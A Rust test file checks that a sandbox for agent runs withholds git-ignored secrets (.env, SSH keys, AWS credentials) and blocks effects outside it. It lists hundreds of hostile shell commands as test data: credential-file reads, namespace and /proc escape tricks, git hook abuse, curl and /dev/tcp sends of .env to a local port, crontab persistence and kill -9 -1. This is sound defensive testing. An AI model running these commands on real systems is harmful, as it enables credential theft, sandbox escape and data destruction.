//! Secrets of a repository are withheld from what runs in a sandbox, and nothing that is tried in
//! there has an effect outside.

#![allow(clippy::unwrap_used, reason = "clippy sees tests, not the functions that they share")]

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::hash::{BuildHasher as _, RandomState};
use std::net::TcpListener;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};

use overmind_testkit::soak;
use serde_json::json;

use crate::home::Home;
use crate::worktrees::House;

const SECRET: &str = "CANARY-SECRET-5d1f";
const PLAIN: &str = "CANARY-PLAIN-77ab";
/// Ignored by git, and copied into each room.
const SECRETS: &[&str] =
    &[".env", "keys/id_rsa", "web/.npmrc", ".aws/credentials", "certs/tls.pem"];

/// Ways to read a file; `@` is how it is called, `#` a number that no other has.
const READERS: &[&str] = &[
    "cat @",
    "head -n 5 @",
    "tail -n 5 @",
    "sed -n p @",
    "awk 1 @",
    "grep -h '' @",
    "tac @",
    "nl @",
    "base64 @ | base64 -d",
    "dd if=@ 2>/dev/null",
    "sort @",
    "cut -c1- @",
    "tr a a < @",
    "paste @",
    "od -An -v -tx1 @ | tr -d ' \\n' | xxd -r -p",
    "cp @ /tmp/c# && cat /tmp/c#",
    "install -m 644 @ /tmp/i# && cat /tmp/i#",
    "cp @ copy# && cat copy#",
    "ln -L @ hard# && cat hard#",
    "ln -s \"$(realpath @)\" soft# && cat soft#",
    "tar cPf - @ | tar xOPf -",
    "tar chf - -C . @ 2>/dev/null | grep -a CANARY",
    "python3 -c 'import sys; print(open(sys.argv[1]).read())' @",
    "perl -pe 1 @",
    "diff /dev/null @",
    "git diff --no-index /dev/null @",
    "git hash-object -w @ | xargs git cat-file -p",
    "while read -r line; do echo \"$line\"; done < @",
    "echo \"$(< @)\"",
    "exec 3< @; cat <&3",
    "xargs -a @ echo",
    "printf '%s\\0' @ | xargs -0 cat",
    "find @ -maxdepth 0 -exec cat {} +",
    "gzip -c @ | zcat",
    "openssl base64 -in @ | openssl base64 -d",
    "split @ /tmp/s#. && cat /tmp/s#.*",
    "mkfifo /tmp/f#; cat @ > /tmp/f# & cat /tmp/f#; wait",
    "mapfile -t all < @; printf '%s\\n' \"${all[@]}\"",
];

/// Ways to run a command; `@` is the command as one word.
const WRAPPERS: &[&str] = &[
    "eval @",
    "bash -c @",
    "printf %s @ | bash",
    "bash <<< @",
    "env -u LANG bash -c @",
    "timeout 9 bash -c @",
    "find . -maxdepth 0 -exec bash -c @ \\;",
    "printf '%s\\0' @ | xargs -0 -I% bash -c %",
    "python3 -c 'import os, sys; os.execvp(\"bash\", [\"bash\", \"-c\", sys.argv[1]])' @",
    "perl -e 'exec \"bash\", \"-c\", shift' @",
    "x=@; nice sh -c 'exec bash -c \"$1\"' sh \"$x\"",
    "(eval @) & wait $!",
];

/// Commands that print everything, or try to read the file below a mask.
const BULK: &[&str] = &[
    "grep -r . .",
    "grep -ra CANARY . /proc/self/cwd/",
    "find . -type f -exec cat {} +",
    "find -L . -name '*.*' -print0 | xargs -0 cat",
    "tar cf - . | grep -a CANARY",
    "tar chf /tmp/all.tar . ; grep -a CANARY /tmp/all.tar",
    "cp -r . /tmp/all; grep -ra CANARY /tmp/all",
    "cp -aL . elsewhere-a; grep -ra CANARY elsewhere-a",
    "zip -qr - . | zcat -f | grep -a CANARY",
    "python3 -c 'import os; [print(open(os.path.join(d, f), errors=\"replace\").read()) for d, _, fs in os.walk(\".\") for f in fs]'",
    "perl -MFile::Find -e 'find(sub { open F, $_; print <F> }, \".\")'",
    "mv keys k2; cat k2/*; mv k2 keys",
    "mv keys .git/k3; cat .git/k3/*; mv .git/k3 keys",
    "mv .env moved; cat moved",
    "mv .aws .moved; cat .moved/*",
    "rm -rf .env keys .aws certs; cat .env",
    "ln .env linked; cat linked",
    "python3 -c 'import os; os.link(\".env\", \"l2\")'; cat l2",
    "python3 -c 'import os; os.rename(\"keys/id_rsa\", \"l3\")'; cat l3",
    "unshare -Urm sh -c 'umount .env; umount -l .env; cat .env'",
    "unshare -Urm sh -c 'mount --bind . /tmp; cat /tmp/.env'",
    "unshare -Urm sh -c 'umount -a; cat .env keys/*'",
    "umount .env; cat .env",
    "mount -o remount,bind .env; cat .env",
    "mount --bind . /tmp; cat /tmp/.env",
    "nsenter -t 1 -m cat .env",
    "chroot . cat .env",
    "cat /proc/1/root$PWD/.env /proc/*/root$PWD/.env /proc/*/cwd/.env",
    "exec 9<.; cat /proc/self/fd/9/.env",
    "cd keys; cat id_rsa; cd /proc/self/cwd; cat id_rsa",
    "git add -f -A; git ls-files -s | cut -d' ' -f2 | xargs -n1 git cat-file -p | grep -a CANARY",
    "git commit -qam all; git show | grep CANARY",
    "git stash -a; git stash show -p | grep CANARY; git stash pop",
    "git grep --no-index CANARY",
    "git -c alias.x='!cat .env' x",
    "git config core.pager 'cat .env'; git -p log",
    "git config core.fsmonitor 'cat .env >&2; true'; git status; git config --unset core.fsmonitor",
    "printf '#!/bin/sh\\ncat .env\\n' > .git/hooks/post-commit; chmod +x .git/hooks/post-commit; git commit -q --allow-empty -m x",
    "git archive HEAD | grep -a CANARY",
    "git worktree add -q /tmp/w; grep -ra CANARY /tmp/w",
    "chmod 777 .env; cat .env",
    "echo x > .env; dd if=/dev/zero of=.env count=1; truncate -s 0 .env; cat .env",
    "setfacl -b .env; getfacl .env; cat .env",
    "printf 'file .env\\nrun\\n' | gdb -batch -x /dev/stdin",
    "node -e 'console.log(require(\"fs\").readFileSync(\".env\", \"utf8\"))'",
    "busybox cat .env; busybox tar c . | grep -a CANARY",
    "awk 'BEGIN { while ((getline l < \".env\") > 0) print l }'",
    "sh .env; . ./.env; echo $KEY; set -a; . ./keys/id_rsa; env",
    "env -i bash --rcfile .env -ic env; bash --init-file keys/id_rsa -ic set",
    "printf '#include \".env\"\\n' | gcc -E -P -I. -xc -; gcc -E -include .env -xc /dev/null",
    "openssl rsa -in keys/id_rsa -text; ssh-keygen -y -f keys/id_rsa; cat keys/id_rsa",
    "curl -s file://$PWD/.env file://$PWD/keys/id_rsa",
    "make -f .env; make -pn -f .env",
];

/// Commands that reach out: `OUT` is a directory beside the project, `APP` the project, `PORT` a
/// port of the host's loopback.
const OUTWARD: &[&str] = &[
    "cat OUT/told.txt APP/.env",
    "echo x > OUT/told.txt",
    "echo x >> OUT/made.txt",
    "rm -rf OUT/* APP/.env APP/story.txt",
    "touch OUT/touched; mkdir -p OUT/dir",
    "mv story.txt OUT/moved; cp -r . OUT/copy",
    "ln -s OUT out-link; echo x > out-link/through; cat out-link/told.txt",
    "ln OUT/told.txt hard-out; cat hard-out",
    "echo x > ../../../../../../../../OUT/told.txt; cat ../../../../../../../../OUT/told.txt",
    "echo x > /proc/self/root/OUT/told.txt; cat /proc/self/root/OUT/told.txt",
    "cat /proc/1/root/OUT/told.txt; echo x > /proc/1/root/OUT/made",
    "tar cf OUT/a.tar .; tar cf - . | tar xf - -C OUT",
    "find OUT APP -type f -exec cat {} +",
    "git --git-dir=APP/.git --work-tree=APP checkout -f; git -C APP reset --hard",
    "git -C APP config core.hooksPath /tmp; git config --global user.name x",
    "git push APP HEAD:refs/heads/forced; git remote add up APP; git fetch up",
    "git clone -q APP /tmp/clone; cat /tmp/clone/.env",
    "printf '#!/bin/sh\\necho x > OUT/hook\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git commit -q --allow-empty -m y; git config core.hooksPath .git/hooks",
    "mkfifo OUT/fifo; echo x > OUT/fifo & sleep 0.01; kill $!",
    "python3 -c 'open(\"OUT/told.txt\", \"w\").write(\"x\")'; perl -e 'unlink \"OUT/told.txt\"'",
    "curl -s -m 2 http://127.0.0.1:PORT/ -d @.env; curl -s -m 2 --unix-socket OUT/sock http://x/",
    "exec 3<>/dev/tcp/127.0.0.1/PORT && cat story.txt >&3",
    "exec 3<>/dev/tcp/localhost/PORT && echo x >&3; echo x > /dev/udp/127.0.0.1/PORT",
    "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", PORT), 2).send(b\"x\")'",
    "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"OUT/sock\"); s.send(b\"x\")'",
    "perl -MIO::Socket::INET -e 'print IO::Socket::INET->new(\"127.0.0.1:PORT\") or die'",
    "git ls-remote http://127.0.0.1:PORT/x; wget -q -T 2 -t 1 http://127.0.0.1:PORT/",
    "unshare -Urn true; unshare -Urm sh -c 'mount --bind / /tmp; cat /tmp/OUT/told.txt'; nsenter -t 1 -n true",
    "kill -9 -1 2>/dev/null & kill -STOP 2; kill -9 PARENT",
    "echo '* * * * * touch OUT/cron' | crontab -; at now < /dev/null; (setsid sh -c 'touch OUT/later' &)",
];

/// One in so many of the commands is tried on a file that is no secret.
const TWIN: usize = 3;

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// Spellings of a file's name whose last character distinguishes it from its twin.
fn spellings(name: &str) -> Vec<String> {
    let (stem, last) = name.split_at(name.len() - 1);
    let tail = stem.strip_prefix('.').unwrap();
    vec![
        name.to_owned(),
        format!("./{name}"),
        format!("\"$PWD\"/{name}"),
        format!(".e?{last}"),
        format!(".[e]*{last}"),
        format!("'.{tail}'{last}"),
        format!("\\.{tail}\"{last}\""),
        format!("\"$(printf '\\056{tail}')\"{last}"),
        format!("$(echo '{last}{tail}' | sed 's/^\\(.\\)\\(.*\\)/.\\2\\1/')"),
        format!("web/../{name}"),
        format!("/proc/self/cwd/{name}"),
        format!("/proc/self/root/$PWD/{name}"),
        format!("${{nothing:-{stem}}}{last}"),
        format!("here/{name}"),
    ]
}

/// A script of every fifth hostile command from a random one on, or of all of them for `cargo xtask soak`;
/// how many hostile commands there are in all; and of how many of the script a twin shows what is no secret.
fn script(outside: &Path, app: &Path, port: u16) -> (String, usize, usize) {
    let stride = soak::count(5, 1);
    let first = usize::try_from(RandomState::new().hash_one("first")).unwrap() % stride;
    eprintln!("each {stride} hostile commands, from {first} on");
    let is_tried = |n: usize| n % stride == first;
    let (mut tried, mut twins) = (0_usize, 0);
    let mut text = "export LC_ALL=C HOME=/tmp; ln -s . here\n".to_owned();
    let (mut count, mut number) = (0, 0);
    let put = |text: &mut String, mark: &str, command: &str, wrapper: &str| {
        let command = wrapper.replacen('@', &quoted(command), 1);
        writeln!(text, "echo; echo '=={mark}'; {{ {command}\n}} 2>&1 < /dev/null").unwrap();
    };
    for reader in READERS {
        for (spelled, twin) in spellings(".env").iter().zip(spellings(".enx")) {
            let wrapper = WRAPPERS[number % WRAPPERS.len()];
            let read = |path: &str, of: char| {
                reader.replace('@', path).replace('#', &format!("{of}{number}"))
            };
            if is_tried(number) {
                put(&mut text, &format!("s{number}"), &read(spelled, 's'), wrapper);
                if tried % TWIN == 0 {
                    put(&mut text, &format!("p{number}"), &read(&twin, 'p'), wrapper);
                    twins += 1;
                }
                tried += 1;
            }
            (number, count) = (number + 1, count + 1);
        }
    }
    let (outside, app) = (outside.to_str().unwrap(), app.to_str().unwrap());
    // Otherwise commands that follow links never end.
    text.push_str("rm here\n");
    let in_time = |command: &str| format!("timeout -k 1 2 bash -c {}", quoted(command));
    for (n, command) in BULK.iter().enumerate().filter(|(n, _)| is_tried(*n)) {
        let wrapper = WRAPPERS[n % WRAPPERS.len()];
        put(&mut text, &format!("b{n}"), &in_time(command), wrapper);
    }
    for (n, command) in OUTWARD.iter().enumerate().filter(|(n, _)| is_tried(*n)) {
        let command = command.replace("../OUT", &format!("..{outside}"));
        let command = command.replace("/OUT", "OUT").replace("OUT", outside).replace("APP", app);
        let command = command.replace("PORT", &port.to_string()).replace("PARENT", "$PPID");
        // Some of these end every process they can: nothing follows them in their own shell.
        let all = if command.starts_with("kill") { &WRAPPERS[1..2] } else { &WRAPPERS[..4] };
        for wrapper in all {
            put(&mut text, &format!("o{n}"), &in_time(&command), wrapper);
        }
    }
    count += BULK.len() + OUTWARD.len();
    text.push_str("echo; echo '==end'\n");
    (text, count, twins)
}

/// A project with secrets that git ignores.
fn project(house: &House) {
    for secret in SECRETS {
        let path = house.project.join(secret);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, format!("KEY={SECRET}\n# PRIVATE KEY _authToken\n")).unwrap();
    }
    let list = SECRETS.join("\n");
    std::fs::write(house.project.join(".gitignore"), &list).unwrap();
    std::fs::write(house.project.join(".worktreeinclude"), &list).unwrap();
    std::fs::write(house.project.join(".enx"), format!("KEY={PLAIN}\n")).unwrap();
    house.git(&["add", "-A"]);
    house.git(&["commit", "-qm", "secrets are ignored"]);
}

/// All files below, with their content.
fn files(top: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut all = BTreeMap::new();
    let mut waiting = vec![top.to_owned()];
    while let Some(dir) = waiting.pop() {
        for entry in std::fs::read_dir(dir).unwrap().flatten() {
            let kind = entry.file_type().unwrap();
            match kind.is_dir() {
                true => waiting.push(entry.path()),
                false if kind.is_file() => {
                    all.insert(entry.path(), std::fs::read(entry.path()).unwrap());
                }
                false => {
                    all.insert(entry.path(), Vec::new());
                }
            }
        }
    }
    all
}

#[test]
fn hostile_commands_in_an_environment_show_no_secret_and_change_nothing_outside() {
    let house = House::new(None);
    project(&house);
    let outside = house.home.0.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("told.txt"), SECRET).unwrap();
    let _unix = UnixListener::bind(outside.join("sock")).unwrap();
    _unix.set_nonblocking(true).unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let (text, count, twins) = script(&outside, &house.project, port);
    assert!(count >= 500, "{count} hostile commands");
    std::fs::write(house.project.join("try.sh"), text).unwrap();
    house.git(&["add", "try.sh"]);
    house.git(&["commit", "-qm", "a script"]);
    let before = (files(&outside), files(&house.project.join("web")));
    let config = std::fs::read(house.project.join(".git/config")).unwrap();

    let more = ["--sandbox", "namespace"];
    house.start("hostile", &more, "bash try.sh");
    house.ended("hostile");
    // Some of it is no text.
    let log = house.home.0.command(&["logs", "hostile"]).output().unwrap().stdout;
    let log = String::from_utf8_lossy(&log);
    assert!(log.contains("==end"), "the script was cut off: {}", log.split("\n==").last().unwrap());
    for form in [SECRET, "ab-dr", "Q0FOQVJZLVNFQ1JFVC", "43414e4152592d534543524554"] {
        let at = log.find(form).map(|at| &log[log[..at].rfind("==").unwrap()..at + 40]);
        assert_eq!(at, None, "a secret was shown as {form}");
    }
    // The same commands show a file that is no secret, so the commands work.
    let sections: Vec<&str> = log.split("\n==").collect();
    let shown = sections.iter().filter(|one| one.starts_with('p') && one.contains(PLAIN)).count();
    let mute = sections.iter().filter(|one| one.starts_with('p') && !one.contains(PLAIN));
    let mute: Vec<_> = mute.map(|one| one.chars().take(120).collect::<String>()).collect();
    assert!(shown * 100 >= twins * 90, "{shown} of {twins} work: {mute:#?}");

    assert_eq!((files(&outside), files(&house.project.join("web"))), before);
    assert_eq!(std::fs::read(house.project.join(".git/config")).unwrap(), config);
    assert!(listener.accept().is_err() && _unix.accept().is_err(), "something was reached");
    for secret in SECRETS {
        let text = std::fs::read_to_string(house.project.join(secret)).unwrap();
        assert!(text.contains(SECRET), "{secret} changed");
    }
    let saved = house.git(&["log", "--all", "-p", "--text", "--format=%h %s"]);
    let told: Vec<&str> = saved.lines().filter(|line| line.contains(SECRET)).collect();
    assert!(told.is_empty(), "a secret was committed: {told:?}");
}

#[test]
fn a_secret_file_is_withheld_from_every_tool_unless_the_project_grants_it() {
    let house = House::new(None);
    project(&house);
    let file = house.home.0.data().join("policy.toml");
    std::fs::write(file, "version = 1\nextends = \"nothing\"\ndefault = \"allow\"\n").unwrap();
    house.home.0.agent("probe", &[]);
    let seen = |name: &str, task: &str| {
        house.run(&["run", "--name", name, "--wait", "probe", task]);
        let run = house.home.named(name);
        let events = house.run(&["events", name, "-o", "json"]).out;
        (run, events)
    };
    crate::home::until("the policy holds", || {
        let status = house.run(&["status", "-o", "json"]).out;
        status.contains("policy.toml").then_some(())
    });
    for (n, task) in [
        "shell: grep -r . .; find . -exec cat {} +; tar cf - .; cat .e*",
        "read: .env",
        "read: keys/id_rsa",
        "write: .env: KEY=changed",
    ]
    .iter()
    .enumerate()
    {
        let (run, events) = seen(&format!("try-{n}"), task);
        assert!(!events.contains(SECRET), "{task}: {events}");
        assert!(events.contains("ithheld: "), "{task}: {events}");
        assert_eq!(run["room"]["withheld"].as_array().unwrap().len(), SECRETS.len(), "{run}");
    }
    house.run(&["info", "try-0"]).ok().shows("withheld").shows("keys/id_rsa");
    // Files that it creates itself are its own.
    let line = "rm -f .env.local; echo KEY=own > .env.local; cat .env.local";
    let run =
        house.run(&["run", "--name", "own", "--sandbox", "namespace", "--", "sh", "-c", line]);
    run.ok();
    house.ended("own");
    assert!(house.log("own").contains("KEY=own"), "{}", house.log("own"));

    std::fs::write(house.project.join(".overmind.yml"), "version: 1\nsecrets: [\".env\"]\n")
        .unwrap();
    house.trust();
    let (run, events) = seen("granted", "read: .env");
    assert!(events.contains(SECRET), "{events}");
    assert_eq!(run["status"], "succeeded", "{run}");
    assert!(!run["room"]["withheld"].as_array().unwrap().contains(&json!(".env")), "{run}");
    let (_, events) = seen("others", "read: keys/id_rsa");
    assert!(!events.contains(SECRET), "{events}");
}

#[test]
fn a_sandbox_without_a_worktree_withholds_existing_secret_files() {
    let mut home = Home::new();
    home.start(&["--listen", "none"], &[]);
    home.agent("probe", &[]);
    std::fs::write(home.work().join(".env"), format!("KEY={SECRET}\n")).unwrap();
    std::fs::hard_link(home.work().join(".env"), home.work().join("notes")).unwrap();
    let here = |task: &str| {
        let args = ["run", "--here", "--wait", "-o", "name", "probe", task];
        let id = home.run(&args).out.trim().to_owned();
        home.run(&["events", &id, "-o", "json"]).out
    };
    let shell = here("shell: grep -r . .");
    assert!(shell.contains("Withheld: ") && !shell.contains(SECRET), "{shell}");
    let read = here("read: notes");
    assert!(read.contains("withheld: notes") && !read.contains(SECRET), "{read}");
}
